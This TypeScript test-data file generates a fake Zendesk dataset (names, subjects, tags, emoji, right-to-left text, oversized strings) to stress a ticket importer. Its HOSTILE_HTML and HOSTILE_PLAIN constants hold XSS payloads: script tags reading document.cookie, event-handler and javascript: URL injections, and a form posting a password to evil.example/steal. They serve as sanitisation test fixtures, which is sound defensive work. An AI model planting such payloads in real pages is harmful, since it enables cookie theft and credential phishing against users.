/**
 * Words and texts the fake Zendesk dataset is made of: small pools picked by a hash of the
 * record's index (so nothing is stored per record), and the odd texts an importer must survive
 * (emoji, right-to-left scripts, hostile HTML, a 200 kB comment, a subject past 250 chars).
 */

/** A 32-bit mix of (seed, n, salt): the only source of "randomness", so every record is reproducible. */
export function mix(seed: number, n: number, salt: number): number {
  let x = (seed ^ Math.imul(n + 1, 0x9e3779b1) ^ Math.imul(salt + 1, 0x85ebca77)) >>> 0;
  x ^= x >>> 16;
  x = Math.imul(x, 0x7feb352d);
  x ^= x >>> 15;
  x = Math.imul(x, 0x846ca68b);
  x ^= x >>> 16;
  return x >>> 0;
}

export function pick<T>(pool: readonly T[], seed: number, n: number, salt: number): T {
  return pool[mix(seed, n, salt) % pool.length] as T;
}

export const FIRST_NAMES = [
  "Ada",
  "Bruno",
  "Chloé",
  "Dmitri",
  "Elif",
  "Farah",
  "Günter",
  "Hana",
  "Ivo",
  "Jasmin",
  "Kenji",
  "Lucía",
  "Mateus",
  "Nora",
  "Olu",
  "Priya",
  "Quentin",
  "Rosa",
  "Sven",
  "Tamar",
];
export const LAST_NAMES = [
  "Adeyemi",
  "Berg",
  "Castillo",
  "Dubois",
  "Eriksen",
  "Fischer",
  "García",
  "Hoffmann",
  "Ivanova",
  "Jensen",
  "Kowalski",
  "Lindqvist",
  "Moreau",
  "Nakamura",
  "O'Brien",
  "Petrov",
];

export const SUBJECTS = [
  "Cannot log in to my account",
  "Invoice shows the wrong amount",
  "Export to CSV is empty",
  "Password reset email never arrives",
  "App crashes when uploading a photo",
  "How do I add a second user?",
  "Refund for a duplicate charge",
  "Sync stopped after the update",
  "Feature request: dark mode",
  "Order arrived damaged",
  "Cannot change my billing address",
  "Two-factor codes are rejected",
];

export const SENTENCES = [
  "Thanks for reaching out, I have looked into your account.",
  "Since this morning the page only shows a spinner.",
  "Could you send us a screenshot of the error message?",
  "I tried clearing the cache and it still happens.",
  "Our team has reproduced the issue and a fix is on its way.",
  "The charge appeared twice on my card statement.",
  "Please restart the app after installing version 4.2.",
  "This is blocking our whole team, we cannot work.",
  "I have issued the refund; it takes 3–5 business days.",
  "Let me know if anything else comes up.",
  "The export finished but the file has no rows.",
  "We changed the setting on our side, please try again.",
  "It works now, thank you so much for the quick help!",
  "Which browser and operating system are you using?",
];

export const TAGS = ["billing", "login", "mobile", "vip", "bug", "refund", "export", "onboarding"];
export const CHANNELS = ["email", "web", "api", "mobile", "chat"];
export const VIA_TEXT: Record<string, string> = {
  email: "Mail",
  web: "Web form",
  api: "Web service",
  mobile: "Mobile",
  chat: "Chat",
};
export const GROUP_NAMES = ["Support", "Billing", "Tier 2", "Onboarding", "Hardware", "Enterprise"];
export const ORG_NAMES = ["Acme", "Globex", "Initech", "Umbrella", "Hooli", "Stark", "Wayne", "Tyrell"];
export const LOCALES = ["en-us", "de"] as const;

/** Arabic and Hebrew: right-to-left text with mixed-in digits. */
export const RTL_SUBJECT = "لا أستطيع تسجيل الدخول إلى حسابي منذ ٣ أيام";
export const RTL_ARABIC_BODY = "مرحبا، لا أستطيع الدخول إلى حسابي. رقم الطلب 4411. شكرا لكم.";
export const RTL_HEBREW_BODY = "שלום, החשבון שלי נעול מאז יום שני. מספר הזמנה 4411. תודה!";
export const RTL_NAME = "مريم الحداد";
export const HEBREW_NAME = "יעל כהן";

export const EMOJI_SUBJECT = "Refund 💸 please 🙏🏽 family plan 👩‍👩‍👧 — café ☕";
export const EMOJI_BODY =
  "Hi 👋 the app shows 🔥🔥🔥 then crashes 💥. Flag test: 🇯🇵🇧🇷. ZWJ: 👨🏾‍💻. Thanks 🙏🏽";

/** Every classic XSS vector an HTML comment can carry; the importer must sanitise it like email. */
export const HOSTILE_HTML =
  "<p>Hello, see below</p><script>alert(document.cookie)</script>" +
  '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">click here</a>' +
  '<iframe src="https://evil.example/"></iframe><svg onload="alert(3)"><circle r="1"/></svg>' +
  '<p style="background:url(javascript:alert(4))" onclick="alert(5)">styled</p>' +
  '<form action="https://evil.example/steal"><input name="password"></form>';
export const HOSTILE_PLAIN = "Hello, see below\n<script>alert(document.cookie)</script> click here";

/** Zammad's bug: a field cut at 250 characters. This subject is 300 long and must survive whole. */
export const LONG_SUBJECT = `${"The quarterly export keeps failing with a timeout ".repeat(6).slice(0, 294)} [end]`;

/** 200 kB of text: the importer stores it whole (Rapport has no short message limit). */
let bigBody: string | null = null;
export function bigCommentBody(): string {
  if (bigBody === null) {
    const paragraph = "This log is long on purpose: line after line of a stack trace the customer pasted. ";
    bigBody = paragraph.repeat(Math.ceil((200 * 1024) / paragraph.length)).slice(0, 200 * 1024);
  }
  return bigBody;
}

export function escapeHtml(text: string): string {
  return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}
